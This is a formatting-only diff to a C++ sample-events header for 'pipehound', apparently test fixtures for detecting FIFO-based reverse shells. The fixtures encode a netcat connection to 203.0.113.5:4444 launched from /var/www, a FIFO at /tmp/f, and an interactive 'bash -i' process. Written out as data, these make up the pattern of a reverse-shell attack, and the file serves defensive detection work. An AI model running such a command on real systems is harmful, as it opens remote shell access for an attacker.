@@ -28,7 +28,9 @@ inline Event with(Act act) {
 
 inline FileId file() { return {8ULL << 32U | 1U, 131077}; }
 
-inline Event exec() { return with(ProcessExecuted{"/bin/nc", {"nc", "203.0.113.5", "4444"}, "/var/www"}); }
+inline Event exec() {
+    return with(ProcessExecuted{"/bin/nc", {"nc", "203.0.113.5", "4444"}, "/var/www"});
+}
 inline Event created() { return with(FifoCreated{file(), "/tmp/f", "/tmp"}); }
 inline Event opened() { return with(FifoOpened{file(), "/tmp/f", true, false, 3, "/tmp"}); }
 inline Event removed() { return with(FifoRemoved{file(), "/tmp/f"}); }
@@ -50,12 +52,14 @@ inline ProcessFacts process(int pid, std::string executable, std::vector<std::st
 }
 
 inline Facts facts() {
-    return {process(4244, "/usr/bin/nc.openbsd", {"nc", "-known"}), process(4200, "/usr/bin/bash", {"bash", "-i"})};
+    return {process(4244, "/usr/bin/nc.openbsd", {"nc", "-known"}),
+            process(4200, "/usr/bin/bash", {"bash", "-i"})};
 }
 
 inline std::vector<std::pair<std::string, Event>> all() {
-    return {{"exec", exec()},       {"created", created()},     {"opened", opened()},     {"removed", removed()},
-            {"renamed", renamed()}, {"connected", connected()}, {"accepted", accepted()}, {"bound", bound()}};
+    return {{"exec", exec()},         {"created", created()}, {"opened", opened()},
+            {"removed", removed()},   {"renamed", renamed()}, {"connected", connected()},
+            {"accepted", accepted()}, {"bound", bound()}};
 }
 
 }  // namespace pipehound::event::sample
